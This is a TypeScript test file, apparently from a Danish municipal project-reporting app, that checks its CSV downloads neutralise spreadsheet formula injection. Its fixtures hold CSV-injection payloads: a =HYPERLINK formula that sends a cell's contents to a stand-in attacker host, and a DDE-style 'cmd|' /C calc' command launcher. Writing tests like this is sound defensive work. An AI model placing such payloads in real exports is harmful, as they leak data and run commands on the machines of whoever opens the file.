/**
 * Issue 11, finding 4: a goal title, milestone, report text or activity type starting with `=`
 * (or `+`, `-`, `@`) went into the CSV downloads as is, where a spreadsheet runs it as a formula.
 * Every CSV download now goes through the one writer, which neutralises such a cell with a
 * leading apostrophe; numbers (also negative ones) stay numbers.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { REPORT_KINDS } from '../src/reports/project-reports.ts';
import { csvFields } from './helpers/downloads.ts';
import { loginAs } from './helpers/http.ts';
import { useTestServer } from './helpers/server.ts';
import { addGoal, addProjectRecords, createAgency, createMunicipality, type TestMunicipality } from './helpers/world.ts';

/** A field a spreadsheet would read as a formula. */
const formula = (f: string) => /^[=+\-@\t\r]/.test(f) && !/^[+-]?\d+(?:[.,]\d+)?$/.test(f);

describe('CSV downloads and formulas', () => {
  const srv = useTestServer('pglite');
  const HYPERLINK = '=HYPERLINK("http://angriber.invalid/?d="&A1;"Klik")';
  const w = {} as { m: TestMunicipality; analyst: string };
  beforeAll(async () => {
    // A fresh municipality's project with a goal, a milestone, a report text and an activity type, each a formula.
    w.m = await createMunicipality(srv.t.db, { women: 2 });
    w.analyst = (await createAgency(srv.t.db)).analyst.username;
    const pid = w.m.projectId;
    await addGoal(srv.t.db, w.m, HYPERLINK);
    await addProjectRecords(srv.t.db, w.m, 'csv');
    await srv.t.db.query(
      `UPDATE project_milestone SET content = '@SUM(1+1)*cmd' WHERE id = (SELECT min(id) FROM project_milestone WHERE project_id = $1)`,
      [pid],
    );
    await srv.t.db.query(
      `INSERT INTO project_report_text (project_id, section, body) VALUES ($1, 'aktiviteter', '+1+cmd|'' /C calc''!A0')
      ON CONFLICT (project_id, section) DO UPDATE SET body = excluded.body`,
      [pid],
    );
    await srv.t.db.query(
      `INSERT INTO project_activity_type (project_id, key, name, category) VALUES ($1, 'formel', '-2+3+cmd', 'vejledning')`,
      [pid],
    );
  });

  it('neutralises every formula cell in every report CSV, and keeps negative numbers', async () => {
    const s = await loginAs(srv.app, w.m.leader.username);
    const pid = w.m.projectId;
    const seen = new Set<string>();
    for (const kind of REPORT_KINDS) {
      const res = await s.get(`/styring/rapporter/${kind}.csv?projekt=${pid}`);
      expect(res.statusCode, kind).toBe(200);
      const f = csvFields(res.body);
      expect(f.filter(formula), kind).toEqual([]);
      for (const x of f) if (x.startsWith("'")) seen.add(x);
    }
    // The texts are there, neutralised (so the test proves it looked at them).
    expect(seen).toContain(`'${HYPERLINK}`);
    expect(seen).toContain("'+1+cmd|' /C calc'!A0");
  });

  it('neutralises the national report and the microdata download too', async () => {
    // The national downloads read every municipality (the demo's too); the analyst is the file's own.
    const s = await loginAs(srv.app, w.analyst);
    for (const url of ['/nationalt/rapport.csv', '/nationalt/mikrodata.csv']) {
      const res = await s.get(url);
      expect(res.statusCode, url).toBe(200);
      const f = csvFields(res.body);
      expect(f.length, url).toBeGreaterThan(20);
      expect(f.filter(formula), url).toEqual([]);
    }
  });
});
